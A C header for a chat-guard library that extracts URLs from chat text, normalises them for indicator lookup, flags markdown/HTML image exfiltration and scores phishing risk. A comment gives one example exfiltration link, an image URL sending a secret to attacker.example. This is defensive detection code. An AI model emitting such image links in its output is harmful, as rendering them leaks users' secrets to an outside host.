/*
 * ag_url.h
 *	  URLs in chat text: extraction, normalisation for indicator matching,
 *	  markdown/HTML image exfiltration, and a lexical phishing risk score.
 *
 * No PostgreSQL here.  The intended use by the glue:
 *
 *	  AgUrlList urls = {0};               -- one per backend, reused
 *	  int n = AgUrlExtract(&urls, text, len);
 *	  for each urls.urls[i]:
 *		  look up u->url_no_scheme, then u->host and its parent domains,
 *		  in aiguard.indicators (indicators themselves normalised with
 *		  AgUrlNormalizeOne, so both sides agree);
 *		  no entry: AgUrlLexicalRisk(u, &risk) >= AG_URL_RISK_THRESHOLD;
 *		  AgUrlImageExfiltration(u, reason, sizeof reason) for images;
 *	  AgUrlListFree(&urls);               -- at backend exit
 *
 * Every string an AgUrl points to lives in its AgUrlList and stays valid
 * until the next call on that list.  Text may be any bytes: invalid UTF-8
 * ends a URL, it never makes the extractor read out of bounds.
 */
#ifndef AG_URL_H
#define AG_URL_H

#include <stddef.h>

#include "ag_util.h"

/* What was seen around and inside a URL. */
typedef enum AgUrlFlag
{
	AG_URL_HAS_SCHEME = 1 << 0,		/* written with http:// or https:// (or hxxp) */
	AG_URL_IP_HOST = 1 << 1,		/* host is an IPv4 or [IPv6] literal */
	AG_URL_IP_OBFUSCATED = 1 << 2,	/* IPv4 written in decimal, octal or hex form */
	AG_URL_IDN = 1 << 3,			/* host written with non-ASCII letters */
	AG_URL_PUNYCODE = 1 << 4,		/* host has an xn-- label (written or converted) */
	AG_URL_MIXED_SCRIPT = 1 << 5,	/* a label mixes Latin/Cyrillic/Greek/Armenian */
	AG_URL_CONFUSABLE = 1 << 6,		/* a non-Latin label made only of Latin look-alikes */
	AG_URL_USERINFO = 1 << 7,		/* user@host: the real host is after the '@' */
	AG_URL_MARKDOWN_LINK = 1 << 8,	/* [text](url) */
	AG_URL_MARKDOWN_IMAGE = 1 << 9, /* ![alt](url): fetched when rendered */
	AG_URL_HTML = 1 << 10,			/* attribute of an HTML tag */
	AG_URL_HTML_IMAGE = 1 << 11,	/* <img src=...> and the like: fetched when rendered */
	AG_URL_ANGLE = 1 << 12,			/* <https://...> autolink */
	AG_URL_DEFANGED = 1 << 13,		/* hxxp:// or [.] as threat reports write it */
	AG_URL_WWW = 1 << 14,			/* scheme-less, found by its www. prefix */
	AG_URL_PORT = 1 << 15			/* explicit non-default port */
} AgUrlFlag;

/* Either kind of rendered image (markdown or HTML). */
#define AG_URL_IMAGE (AG_URL_MARKDOWN_IMAGE | AG_URL_HTML_IMAGE)

typedef struct AgUrl
{
	size_t		start;			/* byte offset of the URL in the text */
	size_t		end;			/* one past its last byte (after stripping) */
	const char *scheme;			/* "http", "https" or "ftp"; "http" when none */
	/*
	 * Normalised URL "scheme://host[:port]/path[?query]": scheme and host
	 * lowercase, host in ASCII (punycode) without trailing dot, default port
	 * dropped, fragment dropped, empty path "/", userinfo dropped, percent
	 * escapes of unreserved characters decoded and the others uppercased,
	 * non-ASCII and control bytes of path/query percent-encoded, "&amp;"
	 * decoded in HTML attributes.
	 */
	const char *url;
	const char *url_no_scheme;	/* url from the host on (scheme-blind matching) */
	const char *host;			/* ASCII host; IPv4 dotted decimal; IPv6 without brackets */
	const char *host_unicode;	/* host with xn-- labels decoded (UTF-8) */
	const char *path;			/* "/path[?query]", a suffix of url */
	const char *userinfo;		/* as written (percent-decoded), "" when none */
	int			port;			/* effective port: 80 / 443 when not written */
	unsigned	flags;			/* AgUrlFlag bits */
} AgUrl;

/* Reusable result buffers; zero-initialise, free with AgUrlListFree. */
typedef struct AgUrlList
{
	AgUrl	   *urls;
	int			n;
	int			cap;
	int			truncated;		/* more than AG_URL_MAX_PER_TEXT in the text */
	AgBuf		strings;		/* backing store of every string of urls[] */
} AgUrlList;

/* At most this many URLs are returned per text (the rest are counted out). */
#define AG_URL_MAX_PER_TEXT 1000

/*
 * Finds the URLs in text[0..len) (UTF-8): with a scheme (http, https, ftp,
 * defanged hxxp/hxxps), scheme-less www.host and bare host.tld/path where
 * the TLD is a known one (file names, version numbers, e.g., code like
 * logging.info(...) and e-mail addresses are not URLs), in markdown
 * links/images, HTML href/src attributes and <...> autolinks.  Trailing
 * punctuation is stripped and parentheses are balanced.  Returns the
 * number found (list->n), or -1 when out of memory.
 */
extern int	AgUrlExtract(AgUrlList *list, const char *text, size_t len);

/*
 * Normalises one URL or bare host written alone (an indicator line, e.g.
 * "https://Evil.example:443/a#x" or "evil.example"): any TLD is accepted.
 * Returns 1 and list->urls[0], 0 if it is not a URL, -1 out of memory.
 */
extern int	AgUrlNormalizeOne(AgUrlList *list, const char *text, size_t len);

extern void AgUrlListFree(AgUrlList *list);

/*
 * Markdown/HTML image exfiltration: 1 when u is an image (fetched as soon
 * as the chat is rendered) whose query or path carries data -- readable
 * text, a long encoded value, many or long parameters -- as in
 * ![x](https://attacker.example/log?q=<secret>).  reason gets a short
 * English explanation (also for 0, when u is an image: "no data").
 */
extern int	AgUrlImageExfiltration(const AgUrl *u, char *reason, size_t reasonlen);

/* Lexical phishing risk of a URL no list knows about. */
#define AG_URL_RISK_MAX_REASONS 12
#define AG_URL_RISK_THRESHOLD 0.5

typedef struct AgUrlRisk
{
	double		score;			/* 0..1: 1 - prod(1 - weight) over features */
	int			nreasons;
	const char *reasons[AG_URL_RISK_MAX_REASONS];	/* static strings */
	double		weights[AG_URL_RISK_MAX_REASONS];
} AgUrlRisk;

/*
 * Scores u on what its text alone says: brand names outside the brand's
 * own domain, look-alike (IDN/confusable) hosts, IP-literal hosts, userinfo
 * tricks, credential keywords, abused TLDs, free hosting and shorteners,
 * random-looking or very long hosts, e-mail addresses and URLs inside the
 * path.  Returns risk->score; reasons name the features that fired,
 * strongest first.  A score >= AG_URL_RISK_THRESHOLD is suspicious.
 */
extern double AgUrlLexicalRisk(const AgUrl *u, AgUrlRisk *risk);

/*
 * The same with the learned model's sign given instead of computed: the
 * trainer's cross-validation and bench_quality --url-oof, which judge a
 * probability by their own thresholds.  AG_URL_MODEL_COMPUTE is what
 * AgUrlLexicalRisk passes.  The strong sign weighs 0.5: alone it makes a
 * URL suspicious; the weak one 0.25: it only confirms another sign of
 * 0.34 or more (a random-looking name, an abused TLD, a brand where it
 * does not live...).
 */
typedef enum AgUrlModelSign
{
	AG_URL_MODEL_COMPUTE = -1,
	AG_URL_MODEL_NONE = 0,
	AG_URL_MODEL_WEAK = 1,
	AG_URL_MODEL_STRONG = 2
} AgUrlModelSign;
#define AG_URL_MODEL_SIGN_WEIGHT 0.5
#define AG_URL_MODEL_WEAK_SIGN_WEIGHT 0.25
extern double AgUrlLexicalRiskEx(const AgUrl *u, AgUrlRisk *risk, AgUrlModelSign sign);

/*
 * The registrable-ish label of an ASCII host (the "paypal" of
 * www.paypal.co.uk; the tenant of a free-hosting domain) into out.
 * Returns its length, 0 for IP hosts or single labels.
 */
extern size_t AgUrlMainLabel(const char *host, char *out, size_t outlen);

#endif							/* AG_URL_H */
